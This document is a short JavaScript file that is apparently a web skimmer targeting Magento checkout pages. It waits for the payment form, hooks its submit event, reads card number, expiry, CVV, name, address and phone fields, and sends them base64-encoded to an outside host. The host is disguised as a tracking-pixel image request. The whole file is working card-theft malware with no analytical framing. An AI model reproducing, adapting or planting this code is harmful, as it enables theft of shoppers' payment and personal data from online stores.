var Gate = {
  url: 'https://cdn-mage-stats.test/img/pixel.gif',
  loaded: false,
  check: function () {
    var p = document.location.pathname + document.location.href;
    if (!/firecheckout|onepage|checkout/i.test(p)) return false;
    return document.getElementsByName('payment[cc_number]').length > 0;
  },
  collect: function () {
    var v = '';
    ['payment[cc_number]', 'payment[cc_exp_month]', 'payment[cc_exp_year]', 'payment[cc_cid]', 'billing[firstname]', 'billing[lastname]', 'billing[street][]', 'billing[postcode]', 'billing[telephone]'].forEach(function (n) {
      var e = document.getElementsByName(n)[0];
      if (e) v += n + '=' + e.value + ';';
    });
    return v;
  },
  send: function () {
    var i = new Image();
    i.src = Gate.url + '?h=' + location.hostname + '&v=' + btoa(Gate.collect());
  }
};
window.setInterval(function () {
  if (Gate.check() && !Gate.loaded) {
    Gate.loaded = true;
    document.querySelector('#firecheckout-form').addEventListener('submit', Gate.send);
  }
}, 1000);
